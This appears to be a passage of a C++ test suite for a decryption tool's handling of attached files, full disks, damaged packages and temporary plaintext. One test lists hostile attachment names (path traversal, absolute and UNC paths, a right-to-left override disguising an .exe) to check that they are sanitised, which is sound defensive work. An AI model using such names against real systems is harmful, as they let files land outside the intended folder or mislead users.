// A folder fixed in advance (the command line's) is not asked about again: the failure is told.
TEST_F(DecryptPipelineTest, AFailedWriteIntoAFixedFolderKeepsTheMessageAndSaysWhy)
{
    WriteAttachment("notes.txt", "new notes");
    request.attachedFileFolder = Path("no such folder");

    const DecryptOutcome outcome = Decrypt();

    EXPECT_EQ(outcome.status, DecryptStatus::AttachmentNotWritten);
    EXPECT_EQ(outcome.message, "The file is attached.");
    EXPECT_TRUE(outcome.writtenFilePath.isEmpty());
    EXPECT_EQ(outcome.attachment, AttachmentFate::WriteFailed);
    EXPECT_TRUE(outcome.closingMessage.isEmpty());
    EXPECT_EQ(ChooserCount(), 0);
    EXPECT_EQ(BoxTexts(),
              QStringList{Text(DecryptTexts::WriteFailed) + " " + QDir::toNativeSeparators(Path("no such folder")) +
                          ":" + CrLf + "No such file or folder."});
    EXPECT_FALSE(QFileInfo::exists(Path("no such folder")));
}

class DecryptFullDiskTest : public DecryptPipelineTest, public ::testing::WithParamInterface<qsizetype> {};

// The chosen folder is on a file system that runs full while the attached file is written: the
// earlier file there is kept, and the file goes into the next folder the user chooses.
TEST_P(DecryptFullDiskTest, AnAttachedFileThatDoesNotFitIsToldAndSavedInAnotherFolder)
{
    const qsizetype size = GetParam();
    FullFileSystem disk;
    if (!disk.mounted())
        GTEST_SKIP() << disk.reason();
    ASSERT_TRUE(disk.write("big.bin", "the user's earlier file"));
    WriteAttachment("big.bin", QByteArray(size, 'A'));
    ASSERT_TRUE(disk.fill(size / 2));
    dialogs.queuePath(disk.path());
    dialogs.queueAnswer(DialogAnswer::Yes); // replace
    dialogs.queuePath(Path("out"));

    const DecryptOutcome outcome = Decrypt();

    EXPECT_EQ(outcome.status, DecryptStatus::Success);
    EXPECT_EQ(outcome.attachment, AttachmentFate::Saved);
    EXPECT_EQ(BoxTexts().at(2), ChooseAgainNotice(disk.path(), "Disk full.", "big.bin", size));
    EXPECT_EQ(CiphertextMaker::read_file(disk.filePath("big.bin")), "the user's earlier file");
    EXPECT_EQ(QDir(disk.path()).entryList(QDir::AllEntries | QDir::Hidden | QDir::NoDotAndDotDot),
              (QStringList{"big.bin", "zz-filler"}));
    EXPECT_EQ(CiphertextMaker::read_file(Path("out/big.bin")), QByteArray(size, 'A'));
}

INSTANTIATE_TEST_SUITE_P(Sizes, DecryptFullDiskTest, ::testing::Values(100, 16 * 1024, 2'000'000));

TEST_F(DecryptPipelineTest, AWorkingFolderThatFillsUpIsAnInputOutputFailure)
{
    FullFileSystem disk;
    if (!disk.mounted())
        GTEST_SKIP() << disk.reason();
    QByteArray noise(300'000, '\0');
    for (qsizetype i = 0; i < noise.size(); ++i)
        noise[i] = static_cast<char>((i * 2654435761u) >> 13);
    WriteAttachment("random.bin", noise);
    const qint64 body = QFileInfo(request.ciphertextPath).size();
    // Room for the copy of the body, not for what the engine makes of it.
    ASSERT_TRUE(disk.fill(body + 64 * 1024));
    request.workingFolderBase = disk.path();
    dialogs.queuePath(Path("out"));

    const DecryptOutcome outcome = Decrypt();

    EXPECT_EQ(outcome.status, DecryptStatus::Failed);
    EXPECT_FALSE(outcome.message.has_value());
    ASSERT_EQ(dialogs.messages().size(), 1u);
    EXPECT_TRUE(dialogs.messages()[0].text.startsWith(Text(DecryptTexts::WorkingFolderFailed) + " " + disk.path()))
        << dialogs.messages()[0].text.toStdString();
    EXPECT_TRUE(dialogs.messages()[0].text.endsWith(CrLf + "Disk full.")) << dialogs.messages()[0].text.toStdString();
    EXPECT_EQ(QDir(disk.path()).entryList(QDir::AllEntries | QDir::Hidden | QDir::NoDotAndDotDot),
              QStringList{"zz-filler"});
    request.workingFolderBase = Path("work");
}

// A working folder that cannot be made is told as that (not as an unreadable ciphertext file): the
// folder it was to be made in and why.
TEST_F(DecryptPipelineTest, AWorkingFolderThatCannotBeMadeIsToldWithTheFolderAndTheCause)
{
    EncryptWithPipeline("A message that is fine.", {});
    const ReadOnlyFolder readOnly;
    for (const UnusableBase& c : UnusableBases(Path("scratch"), readOnly)) {
        SCOPED_TRACE(c.name);
        dialogs.clear();
        request.workingFolderBase = c.base;

        const DecryptOutcome outcome = Decrypt();

        EXPECT_EQ(outcome.status, DecryptStatus::Failed);
        EXPECT_FALSE(outcome.message.has_value());
        ASSERT_EQ(dialogs.messages().size(), 1u);
        EXPECT_EQ(dialogs.messages()[0].text, Text(DecryptTexts::NoWorkingFolder) + ' ' + c.base + ":\r\n" + c.cause);
        EXPECT_EQ(dialogs.messages()[0].icon, DialogIcon::Exclamation);
    }
    request.workingFolderBase = Path("work");
}

struct UnsafeName {
    const char* label;
    QByteArray name;
    QString derived;
};

class DecryptUnsafeNameTest : public DecryptPipelineTest, public ::testing::WithParamInterface<UnsafeName> {};

// The sender chooses the name; whatever it is, nothing may land outside the chosen folder or under a
// name that misleads. The user is shown a safe name made from it and decides; the message stays.
TEST_P(DecryptUnsafeNameTest, IsOfferedUnderASafeNameShownFirst)
{
    const UnsafeName& c = GetParam();
    QDir(Path("out")).mkpath("inner");
    for (const DialogAnswer answer : {DialogAnswer::No, DialogAnswer::Yes}) {
        SCOPED_TRACE(answer == DialogAnswer::Yes ? "Yes" : "No");
        dialogs.clear();
        WriteAttachment(c.name, "payload");
        dialogs.queueAnswer(answer);
        dialogs.queuePath(Path("out/inner"));
        dialogs.queueAnswer(DialogAnswer::Yes); // a hidden derived name, if asked

        const DecryptOutcome outcome = Decrypt();

        EXPECT_EQ(outcome.message, "The file is attached.");
        EXPECT_EQ(dialogs.messages().at(0).text, Text(DecryptTexts::DerivedNameQuestion) + CrLf + CrLf + c.derived);
        EXPECT_EQ(dialogs.messages().at(0).defaultButton, 0);
        if (answer == DialogAnswer::No) {
            EXPECT_EQ(outcome.status, DecryptStatus::AttachmentNotWritten);
            EXPECT_EQ(outcome.attachment, AttachmentFate::UnsafeName);
            EXPECT_EQ(BoxTexts().last(), Text(DecryptTexts::UnsafeAttachedName));
            EXPECT_EQ(ChooserCount(), 0);
            EXPECT_EQ(FilesUnder("out"), QStringList{"inner"});
        } else {
            EXPECT_EQ(outcome.status, DecryptStatus::Success);
            EXPECT_EQ(outcome.attachment, AttachmentFate::Saved);
            EXPECT_EQ(FilesUnder("out"), (QStringList{"inner", "inner/" + c.derived}));
            EXPECT_EQ(CiphertextMaker::read_file(Path("out/inner/") + c.derived), "payload");
        }
        EXPECT_EQ(FilesUnder("in"), QStringList{"message.zip"});
        EXPECT_TRUE(FilesUnder("scratch").isEmpty());
        EXPECT_EQ(QDir(dir.path()).entryList(QDir::AllEntries | QDir::NoDotAndDotDot),
                  (QStringList{"in", "out", "scratch", "work"}));
        QFile::remove(Path("out/inner/") + c.derived);
    }
}

INSTANTIATE_TEST_SUITE_P(
    Classes, DecryptUnsafeNameTest,
    ::testing::Values(UnsafeName{"SlashInside", "sub/evil.txt", "sub_evil.txt"},
                      UnsafeName{"ParentBySlash", "../evil.txt", ".._evil.txt"},
                      UnsafeName{"AbsolutePath", "/tmp/evil.txt", "_tmp_evil.txt"},
                      UnsafeName{"UncPrefix", "\\\\server\\share", "__server_share"}, UnsafeName{"DotDot", "..", "__"},
                      UnsafeName{"LineBreak", QByteArray("evil\n.txt"), "evil_.txt"},
                      UnsafeName{"C1Control", QByteArray("evil\xC2\x9B.txt"), "evil_.txt"},
                      UnsafeName{"RightToLeftOverride", QStringLiteral("invoice\u202Etxt.exe").toUtf8(),
                                 "invoice_txt.exe"},
                      UnsafeName{"InvalidUtf8", QByteArray("\xff.txt"), "_.txt"},
                      UnsafeName{"Longer255Bytes", QByteArray(252, 'a') + ".txt", QString(251, 'a') + ".txt"}),
    [](const ::testing::TestParamInfo<UnsafeName>& info) { return std::string(info.param.label); });

TEST_F(DecryptPipelineTest, PlainNamesCloseToTheRefusedOnesAreWritten)
{
    // Names only Windows refuses are ordinary names here.
    const QByteArray names[] = {"report.pdf", "icon.png", "com10.txt", "console.log", "aux.c",
                                "con.h",      "a:b.txt",  "NUL",       "C:evil.txt",  QByteArray(251, 'a') + ".txt"};
    for (const QByteArray& name : names) {
        SCOPED_TRACE(name.constData());
        dialogs.clear();
        WriteAttachment(name, "content");
        dialogs.queuePath(Path("out"));

        const DecryptOutcome outcome = Decrypt();

        EXPECT_EQ(outcome.status, DecryptStatus::Success);
        EXPECT_EQ(CiphertextMaker::read_file(Path("out/") + QString::fromUtf8(name)), "content");
    }
}

TEST_F(DecryptPipelineTest, CheckValueMismatchAsksAndFollowsTheAnswer)
{
    QByteArray package = BuildPlainPackage("Possibly altered.", "notes.txt", "content");
    package[package.size() - 1] = package.at(package.size() - 1) == '0' ? '1' : '0';
    const QString question = Text(DecryptTexts::CheckValueMismatch) + CrLf + Text(DecryptTexts::MayBeAltered) + CrLf +
                             Text(DecryptTexts::AcceptAnyway);

    for (const DialogAnswer answer : {DialogAnswer::No, DialogAnswer::Yes}) {
        SCOPED_TRACE(answer == DialogAnswer::Yes ? "Yes" : "No");
        WritePackage(package);
        dialogs.clear();
        dialogs.queueAnswer(answer);
        dialogs.queuePath(Path("out"));

        const DecryptOutcome outcome = Decrypt();

        ASSERT_FALSE(dialogs.messages().empty());
        EXPECT_EQ(dialogs.messages()[0].text, question);
        EXPECT_EQ(dialogs.messages()[0].buttons, DialogButtons::YesNo);
        EXPECT_EQ(dialogs.messages()[0].icon, DialogIcon::Exclamation);
        EXPECT_EQ(dialogs.messages()[0].question, QuestionId::AcceptUnverified);
        if (answer == DialogAnswer::No) {
            EXPECT_EQ(outcome.status, DecryptStatus::CheckValueRefused);
            EXPECT_FALSE(outcome.message.has_value());
            EXPECT_EQ(dialogs.messages().size(), 1u);
            EXPECT_TRUE(FilesUnder("out").isEmpty());
        } else {
            EXPECT_EQ(outcome.status, DecryptStatus::Success);
            EXPECT_EQ(outcome.message, "Possibly altered.");
            EXPECT_EQ(CiphertextMaker::read_file(Path("out/notes.txt")), "content");
        }
    }
}

TEST_F(DecryptPipelineTest, BrokenPackagesAreReportedNotRead)
{
    struct Case {
        const char* label;
        QByteArray body; // the engine's plain input, before the header is put in front
        QString expected;
    };
    const Case cases[] = {
        {"length fields not digits", CiphertextMaker::Compressed("abcde" + QByteArray(40, 'x'), Path("scratch")),
         Text(DamagedPackageText)},
        {"message length past the end",
         CiphertextMaker::Compressed(BuildPlainPackage("short", {}, "filler").replace(0, 5, "99999"), Path("scratch")),
         Text(DamagedPackageText)},
        {"not compressed at all", "plain bytes where a compressed package belongs",
         Text(DecryptTexts::DecompressionFailed)},
    };
    for (const Case& c : cases) {
        SCOPED_TRACE(c.label);
        dialogs.clear();
        const QByteArray file = CiphertextMaker::WithHeader(CiphertextMaker::EngineBody(c.body, Key, Path("scratch")));
        ASSERT_TRUE(CiphertextMaker::write_file(request.ciphertextPath, file));
        dialogs.queueAnswer(DialogAnswer::Yes); // go on past the check value, if asked

        const DecryptOutcome outcome = Decrypt();

        EXPECT_EQ(outcome.status, DecryptStatus::WrongKeyOrDamaged);
        EXPECT_FALSE(outcome.message.has_value());
        ASSERT_FALSE(dialogs.messages().empty());
        EXPECT_EQ(dialogs.messages().back().text, c.expected);
        EXPECT_TRUE(FilesUnder("out").isEmpty());
    }
}

TEST_F(DecryptPipelineTest, SlowStepsGivenToARunnerGiveTheSameOutcomeAsInPlace)
{
    EncryptWithPipeline(QStringLiteral("Through the runner."), {});
    SteppingRunner runner;
    request.control = runner.Control();

    const DecryptOutcome outcome = Decrypt();

    EXPECT_GT(runner.steps, 0);
    EXPECT_EQ(outcome.status, DecryptStatus::Success);
    EXPECT_EQ(outcome.message, QStringLiteral("Through the runner."));
    EXPECT_EQ(BoxTexts(), QStringList{Closing(Text(DecryptTexts::Decrypted))});
}

// Engine, shredding of the body, packer, shredding of the packed package, shredding of the package:
// a stop asked for during any of them recovers nothing, asks nothing and leaves nothing behind (the
// fixture checks the working folders).
TEST_F(DecryptPipelineTest, AStopDuringAnySlowStepRecoversNothingAsksNothingAndLeavesNothingBehind)
{
    const QString attached = Path("scratch/report.txt");
    ASSERT_TRUE(CiphertextMaker::write_file(attached, QByteArray("attached report")));
    EncryptWithPipeline(QStringLiteral("Stop me."), attached);
    for (int stopAt = 1; stopAt <= 5; ++stopAt) {
        SCOPED_TRACE(stopAt);
        dialogs.clear();
        dialogs.queuePath(Path("out"));
        SteppingRunner runner(stopAt);
        request.control = runner.Control();

        const DecryptOutcome outcome = Decrypt();

        EXPECT_EQ(outcome.status, DecryptStatus::Stopped);
        EXPECT_FALSE(outcome.message.has_value());
        EXPECT_TRUE(dialogs.records().empty());
        EXPECT_TRUE(FilesUnder("out").isEmpty());
        EXPECT_TRUE(FilesUnder("work").isEmpty());
    }
}

// The compressed package and the package pass through temporary files; whatever the outcome, each
// is overwritten before it is deleted, so a link kept to it shows other bytes afterwards.
TEST_F(DecryptPipelineTest, TemporaryPlainTextIsOverwrittenBeforeItIsDeleted)
{
    const auto decompressionThatFails = [](Packer&, const char*, const char* out, int32_t) {
        QFile partial(QString::fromUtf8(out));
        if (partial.open(QIODevice::WriteOnly))
            partial.write("the first part of the message");
        return packer_result::kDamagedFrame;
    };
    struct Case {
        const char* name;
        std::function<void(DecryptEngine&)> change;
        DecryptStatus status;
    };
    const Case cases[] = {
        {"success", [](DecryptEngine&) {}, DecryptStatus::Success},
        {"decompression fails", [&](DecryptEngine& e) { e.decompressFile = decompressionThatFails; },
         DecryptStatus::WrongKeyOrDamaged},
    };
    ASSERT_TRUE(CiphertextMaker::write_file(Path("scratch/notes.txt"), "attached notes"));
    EncryptWithPipeline("A message with notes.", Path("scratch/notes.txt"));
    for (const Case& c : cases) {
        SCOPED_TRACE(c.name);
        dialogs.clear();
        dialogs.queuePath(Path("out"));
        const QString links = Path(QStringLiteral("links/") + c.name);
        ASSERT_TRUE(QDir().mkpath(links));
        PlainTextLinks watch(links);
        DecryptEngine engine; // the real one, each time
        c.change(engine);
        request.engine = watch.Watch(engine);

        EXPECT_EQ(Decrypt().status, c.status);

        EXPECT_EQ(watch.Kept(), 2);
        EXPECT_EQ(watch.Unshredded(), QStringList());
        EXPECT_TRUE(FilesUnder("work").isEmpty());
    }
}

TEST_F(DecryptPipelineTest, TheMessageIsShownBeforeAnyQuestionAboutTheAttachedFile)
{
    WriteAttachment("notes.txt", "content");
    dialogs.queuePath(Path("out"));
    QStringList shownMessages;
    std::size_t boxesBeforeMessage = 99;
    request.showMessage = [&](const QString& message) {
        shownMessages << message;
        boxesBeforeMessage = dialogs.records().size();
    };

    const DecryptOutcome outcome = Decrypt();

    EXPECT_EQ(outcome.status, DecryptStatus::Success);
    EXPECT_EQ(shownMessages, QStringList{"The file is attached."});
    EXPECT_EQ(boxesBeforeMessage, 0u);
    EXPECT_EQ(BoxTexts().value(0), FolderNotice("notes.txt", 7));
}

} // namespace
